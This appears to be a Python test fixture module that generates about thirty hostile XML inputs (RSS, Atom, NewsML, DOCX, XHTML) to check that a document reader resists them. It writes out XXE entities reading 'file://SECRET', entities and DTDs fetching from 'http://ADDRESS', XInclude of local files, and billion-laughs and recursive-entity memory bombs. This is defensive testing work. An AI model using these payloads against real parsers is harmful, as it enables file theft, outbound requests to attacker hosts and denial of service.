"""Thirty XML documents that want a file, a connection or all the memory; SECRET and ADDRESS are filled in."""

import io
import zipfile

from tests.read import forms
from tests.read.forms import FIRE

RSS = forms.as_rss(FIRE).decode().partition("?>")[2]
ATOM = forms.as_atom(FIRE).decode().partition("?>")[2]
NEWSML = forms.as_newsml(FIRE).decode().partition("?>")[2]
BODIES = {"rss": RSS, "atom": ATOM, "newsml": NEWSML}
ROOTS = {"rss": "rss", "atom": "feed", "newsml": "newsItem"}

LAUGHS = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
# Name -> what stands in the document type, and what in the text.
ENTITIES = {
    "file": ('<!ENTITY x SYSTEM "file://SECRET">', "&x;"),
    "address": ('<!ENTITY x SYSTEM "http://ADDRESS/x">', "&x;"),
    "public": ('<!ENTITY x PUBLIC "-//X" "http://ADDRESS/x">', "&x;"),
    "parameter-file": ('<!ENTITY % x SYSTEM "file://SECRET"> %x;', ""),
    "parameter-address": ('<!ENTITY % x SYSTEM "http://ADDRESS/x.dtd"> %x;', ""),
    "laughs": (f'<!ENTITY l0 "ha">{LAUGHS}', "&l9;"),
    "blow-up": (f'<!ENTITY x "{"x" * 50_000}">', "&x;" * 20_000),
    "recursive": ('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
}


def entity(form: str, name: str) -> str:
    declared, used = ENTITIES[name]
    doctype = f"<!DOCTYPE {ROOTS[form]} [{declared}]>"
    return f'<?xml version="1.0"?>{doctype}' + BODIES[form].replace("Lindau", f"Lindau {used}", 1)


def docx_with(declared: str, used: str) -> bytes:
    """A Word document whose text declares entities."""
    source = zipfile.ZipFile(io.BytesIO(forms.as_docx(FIRE)))
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for member in source.namelist():
            content = source.read(member).decode("utf-8", "surrogateescape")
            if member == "word/document.xml":
                head, _, rest = content.partition("?>")
                content = f"{head}?><!DOCTYPE x [{declared}]>{rest}".replace("Lindau", used, 1)
            archive.writestr(member, content.encode("utf-8", "surrogateescape"))
    return packed.getvalue()


def filled(name: str, secret: str, address: str) -> bytes:
    """The payload of that name, with a file that it wants and an address that it would call."""
    payload = PAYLOADS[name]
    if payload.startswith(b"PK"):
        source = zipfile.ZipFile(io.BytesIO(payload))
        members = {one: marked(source.read(one), secret, address) for one in source.namelist()}
        return forms.zipped(**members)
    return marked(payload, secret, address)


def marked(content: bytes, secret: str, address: str) -> bytes:
    for mark, meant in (("SECRET", secret), ("ADDRESS", address)):
        content = content.replace(mark.encode(), meant.encode())
        content = content.replace(mark.encode("utf-16-le"), meant.encode("utf-16-le"))
    return content


PAYLOADS: dict[str, bytes] = {
    **{f"{name}.{form}": entity(form, name).encode() for name in ENTITIES for form in BODIES},
    "file.docx": docx_with(*ENTITIES["file"]),
    "laughs.docx": docx_with(*ENTITIES["laughs"]),
    "utf16.rss": entity("rss", "file").encode("utf-16"),
    "dtd.rss": f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://ADDRESS/rss.dtd">{RSS}'.encode(),
    "include.newsml": NEWSML.replace(
        "<p>",
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://SECRET" parse="text"/><p>',
        1,
    ).encode(),
    "stylesheet.atom": f'<?xml version="1.0"?><?xml-stylesheet href="http://ADDRESS/x.xsl"?>{ATOM}'.encode(),
    "file.xhtml": (
        '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file://SECRET">]>'
        + forms.as_html(FIRE).decode().partition(">")[2].replace("Lindau", "&x;", 1)
    ).encode(),
}
